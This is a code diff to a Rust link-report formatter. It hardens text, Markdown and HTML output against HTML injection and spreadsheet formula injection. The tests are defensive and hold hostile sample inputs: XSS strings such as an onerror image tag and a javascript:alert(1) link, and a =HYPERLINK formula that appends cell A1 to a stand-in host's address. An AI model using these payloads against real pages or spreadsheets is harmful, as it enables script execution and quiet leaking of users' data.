@@ -1,5 +1,6 @@
 //! Pieces of the report to be pasted elsewhere: a sentence, one link, a table of links; as text,
-//! Markdown or HTML. Page text is shown as it is in each and can be markup in none.
+//! Markdown or HTML. Page text is shown as it is in each and can be markup in none, nor a formula in
+//! a spreadsheet ([`crate::spreadsheet`]), which takes both text and HTML.
 
 use std::fmt::{Result, Write};
 
@@ -8,6 +9,7 @@ use super::region_words;
 use crate::document::one_line;
 use crate::letter;
 use crate::report::Link;
+use crate::spreadsheet::guarded;
 use crate::url::{Url, is_web};
 
 /// What a piece is written in.
@@ -29,7 +31,7 @@ const COLUMNS: [&str; 5] = ["target", "anchor", "rel", "followed", "region"];
 /// A sentence of ours, which may hold names from pages and profiles.
 pub fn sentence(form: Form, words: &str) -> String {
     match form {
-        Form::Text => one_line(words),
+        Form::Text => cell(words),
         Form::Markdown => escaped(words),
         Form::Html => format!("<p>{}</p>", html(words)),
     }
@@ -45,15 +47,15 @@ pub fn link(form: Form, link: &Link) -> String {
         words
     };
     match (form, web_address(link)) {
-        (Form::Text, _) if words == address => address,
-        (Form::Text, _) => format!("{words} {address}"),
+        (Form::Text, _) if words == address => cell(&address),
+        (Form::Text, _) => cell(&format!("{words} {address}")),
         (Form::Markdown, Some(url)) => {
             // In an address that was parsed only parentheses could end the Markdown link.
             let url = url.replace('(', "%28").replace(')', "%29");
             format!("[{}]({url})", escaped(&words))
         }
         (Form::Markdown, None) => format!("{} {}", escaped(&words), code(&address)),
-        (Form::Html, Some(url)) => format!("<a href=\"{}\">{}</a>", html(&url), html(&words)),
+        (Form::Html, Some(url)) => format!("<a href=\"{}\">{}</a>", attribute(&url), html(&words)),
         (Form::Html, None) => format!("{} <code>{}</code>", html(&words), html(&address)),
     }
 }
@@ -72,7 +74,7 @@ pub fn table(form: Form, links: &[&Link]) -> String {
 
 fn write_text(out: &mut String, links: &[&Link]) -> Result {
     for link in links {
-        let fields = fields(link).map(|field| one_line(&field));
+        let fields = fields(link).map(|field| cell(&field));
         writeln!(out, "{}", fields.join("\t"))?;
     }
     Ok(())
@@ -107,7 +109,7 @@ fn write_html(out: &mut String, links: &[&Link]) -> Result {
     for link in links {
         let [target, anchor, rel, followed, region] = fields(link).map(|field| html(&field));
         let target = match web_address(link) {
-            Some(url) => format!("<a href=\"{}\">{target}</a>", html(&url)),
+            Some(url) => format!("<a href=\"{}\">{target}</a>", attribute(&url)),
             None => target,
         };
         write!(
@@ -140,9 +142,30 @@ fn web_address(link: &Link) -> Option<String> {
     is_web(&url).then(|| url.into())
 }
 
-/// Text on one line that HTML shows as it is, in an element or in a quoted attribute.
+/// Text on one line, for a cell of a spreadsheet. A quotation mark at its beginning would quote the
+/// cells after it as well, so an apostrophe goes before that, too.
+fn cell(text: &str) -> String {
+    let text = line(text);
+    if text.starts_with('"') {
+        format!("'{text}")
+    } else {
+        text
+    }
+}
+
+/// Text on one line that HTML shows as it is.
 fn html(text: &str) -> String {
-    letter::escaped(&one_line(text))
+    letter::escaped(&line(text))
+}
+
+/// Text on one line that is no formula.
+fn line(text: &str) -> String {
+    guarded(&one_line(text)).into_owned()
+}
+
+/// An address in a quoted attribute of HTML.
+fn attribute(url: &str) -> String {
+    letter::escaped(&one_line(url))
 }
 
 #[cfg(test)]
@@ -162,19 +185,16 @@ mod tests {
         body(&links)
     }
 
+    fn each_link(form: Form, links: &[&Link]) -> Vec<String> {
+        links.iter().map(|found| link(form, found)).collect()
+    }
+
     const HOSTILE: &str = "<a href='https://a.example/x)\"y' rel='x\"<i>'>&lt;img src=x onerror=1> [a](b) | `c`</a>\
         <a href='javascript:alert(1)'>&lt;script></a><a href='https://b.example/'></a>";
 
     #[test]
     fn a_link_leads_only_to_the_web_and_its_words_stay_words() {
-        let each = |form| {
-            with_links(HOSTILE, |links| {
-                links
-                    .iter()
-                    .map(|found| link(form, found))
-                    .collect::<Vec<_>>()
-            })
-        };
+        let each = |form| with_links(HOSTILE, |links| each_link(form, links));
         assert_eq!(
             each(Form::Html),
             [
@@ -227,6 +247,31 @@ mod tests {
                 assert_eq!(
                     fields.get(..4),
                     Some(["https://a.example/", "a b c", "ugc", "not followed"].as_slice())
+                );
+            },
+        );
+    }
+
+    #[test]
+    fn nothing_that_is_pasted_into_a_spreadsheet_is_a_formula() {
+        with_links(
+            "<a href='https://a.example/'>=HYPERLINK(\"https://b.example/\"&amp;A1)</a>",
+            |links| {
+                let formula = "'=HYPERLINK(\"https://b.example/\"&A1)";
+                assert_eq!(
+                    table(Form::Text, links),
+                    format!("https://a.example/\t{formula}\t\tfollowed\tin the content\n")
+                );
+                assert_eq!(
+                    each_link(Form::Text, links),
+                    [format!("{formula} https://a.example/")]
+                );
+                let html = letter::escaped(formula);
+                assert!(table(Form::Html, links).contains(&format!("<td>{html}</td>")));
+                assert!(
+                    each_link(Form::Html, links)
+                        .concat()
+                        .contains(&format!(">{html}</a>"))
                 );
             },
         );
